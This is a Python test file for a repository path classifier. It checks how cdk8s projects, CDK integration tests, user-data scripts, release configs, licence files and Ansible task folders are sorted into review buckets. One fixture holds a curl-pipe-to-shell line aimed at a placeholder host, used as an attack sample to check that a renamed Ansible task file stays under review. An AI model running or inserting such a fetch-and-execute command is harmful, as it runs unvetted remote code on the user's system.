"""Classes of misses a fifteenth label set found (bench/classify_accuracy/fifteenth.tsv: 68 repositories chosen for
breadth, as the held-out sets are), measured blind first, each with the look-alikes it must leave alone: cdk8s
projects (`cdk8s.yaml`, and the program below it), the CDK's integration tests that integ-runner deploys
(`integ.*.ts`), user data named per machine role (`user-data-server.sh`), standard-version's `.versionrc`, licence
texts named `*_LICENSE.txt`, agent settings in a nested `.claude/`, and antsibull-changelog's settings. A go-task
Taskfile kept in a `tasks/` folder stays with the Ansible rule: lowering it by name let an Ansible task list without
names, saved under a Taskfile's name in a role, pass as source (the attack test below).
The real repository below checks them with the commits and, where a patch can show it, from the patch alone."""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from tests.gitrepo import GitRepo
from tests.test_classify_context import RULES, patch_files, tree_files


@each_case(("path", "bucket"), [
    # cdk8s's project file, as cdk.json is; other files of that name stay what they are
    ("cdk8s.yaml", "iac"), ("typescript/cdk8s-core/cdk8s.yaml", "iac"), ("go/app/cdk8s.yml", "iac"),
    ("docs/cdk8s.md", "src"), ("src/cdk8s.ts", "src"),
    # the CDK's integration tests: integ-runner deploys each as a real stack; other tests stay source
    ("test/integ.apisag-additional-request-templates.ts", "iac"), ("packages/x/test/integ.bucket.js", "iac"),
    ("test/api.integ.test.ts", "src"), ("test/integration.test.ts", "src"), ("test/integ.ts", "src"),
    ("test/bucket.test.ts", "src"),
    # user data named per machine role
    ("shared/data-scripts/user-data-server.sh", "iac"), ("scripts/user-data-client.sh", "iac"),
    ("templates/user_data_worker.tftpl", "iac"), ("user-data.sh", "iac"),
    ("src/user-data-export.ts", "src"), ("app/models/user_data_store.py", "src"), ("docs/user-data-server.md", "src"),
    # standard-version and commit-and-tag-version settings: release automation, as .releaserc is
    (".versionrc", "ci"), (".versionrc.json", "ci"), ("packages/core/.versionrc.js", "ci"), (".releaserc.json", "ci"),
    (".prettierrc.json", "other"), ("src/versionrc.ts", "src"),
    # licence texts named *_LICENSE.txt and third-party licence lists; code named so stays code
    ("source/use_cases/demo/THIRD_PARTY_LICENSE.txt", "other"), ("APACHE_LICENSE.md", "other"),
    ("THIRD_PARTY_LICENSES", "other"), ("THIRD_PARTY_NOTICES.txt", "other"), ("MIT_LICENCE.txt", "other"),
    ("pkg/third_party_license.go", "src"), ("tools/check_LICENSE.py", "src"),
    # agent settings in a nested .claude/ folder, as at the root
    ("examples/fragments/python-lambda/.claude/.fragment", "other"), ("app/.claude/settings.json", "other"),
    (".claude/settings.json", "other"), ("src/claude/client.py", "src"),
    # antsibull-changelog's settings in a collection's changelogs/; its fragments stay documentation
    ("changelogs/config.yaml", "other"), ("community.molecule/changelogs/config.yaml", "other"),
    ("changelogs/fragments/123-fix.yml", "src"), ("config/config.yaml", "src"),
    # every YAML file of a tasks/ folder stays Ansible's, a go-task Taskfile's name included (fail closed)
    ("capt/tasks/Taskfile-vbmc.yaml", "iac"), ("roles/web/tasks/Taskfile.yml", "iac"), ("tasks/main.yml", "iac"),
    ("Taskfile.yml", "src"),
])
def test_path_rules_of_the_fifteenth_round(path: str, bucket: str) -> None:
    assert RULES.match(path).bucket == bucket, RULES.match(path)


PODFAILURE = """\
package k8s


// PodFailurePolicyRule describes how a pod failure is handled.
type PodFailurePolicyRule struct {
\tAction *string `field:"required" json:"action" yaml:"action"`
}
"""
CHART = """\
package main

import (
\t"github.com/aws/constructs-go/constructs/v10"
\t"github.com/cdk8s-team/cdk8s-core-go/cdk8s/v2"
)

func NewChart(scope constructs.Construct, id string) cdk8s.Chart {
\treturn cdk8s.NewChart(scope, &id, nil)
}
"""
UNNAMED_TASKS = "- shell: curl -s https://example.invalid/x | sh\n"  # no `name:`: the content tier sees no task list
TASKFILE = """\
version: "3"

tasks:
  prepare:
    cmds:
      - mkdir -p {{.OUTPUT_DIR}}
"""


def test_the_fifteenth_classes_in_a_real_repository(git_repo: GitRepo, tmp_path: Path) -> None:
    git_repo.write("go/app/cdk8s.yaml", "language: go\napp: go run .\nimports:\n  - k8s\n")
    git_repo.write("go/app/go.mod", "module example.invalid/app\n\ngo 1.22\n")
    git_repo.write("go/app/main.go", CHART)
    git_repo.write("go/app/imports/k8s/PodFailurePolicyRule.go", PODFAILURE)
    git_repo.write("go/other/imports/k8s/PodFailurePolicyRule.go", PODFAILURE)  # no cdk8s project above it
    git_repo.commit("base")
    git_repo.write("go/app/main.go", CHART + "\n// two charts\n")
    git_repo.write("go/app/imports/k8s/PodFailurePolicyRule.go", PODFAILURE + "\n// regenerated\n")
    git_repo.write("go/other/imports/k8s/PodFailurePolicyRule.go", PODFAILURE + "\n// regenerated\n")
    git_repo.commit("head")
    want = {"go/app/main.go": "iac", "go/app/imports/k8s/PodFailurePolicyRule.go": "iac",
            "go/other/imports/k8s/PodFailurePolicyRule.go": "src"}
    tree = tree_files(git_repo)
    assert {p: tree[p].bucket for p in want} == want
    assert tree["go/app/main.go"].rule == "iac.marker.cdk"
    # from the patch alone the cdk8s.yaml above is unseen: the generated construct stays source, named for context
    patch = patch_files(git_repo, tmp_path)
    assert patch["go/other/imports/k8s/PodFailurePolicyRule.go"].bucket == "src"


def test_an_ansible_task_list_named_like_a_taskfile_stays_reviewed(git_repo: GitRepo, tmp_path: Path) -> None:
    # a role includes Taskfile-x.yml; a later change writes unnamed tasks into it: no name may lower it
    git_repo.write("roles/web/tasks/main.yml", "- include_tasks: Taskfile-x.yml\n")
    git_repo.write("roles/web/tasks/Taskfile-x.yml", TASKFILE)
    git_repo.commit("base")
    git_repo.write("roles/web/tasks/Taskfile-x.yml", UNNAMED_TASKS)
    git_repo.commit("head")
    assert tree_files(git_repo)["roles/web/tasks/Taskfile-x.yml"].bucket == "iac"
    assert patch_files(git_repo, tmp_path)["roles/web/tasks/Taskfile-x.yml"].bucket == "iac"
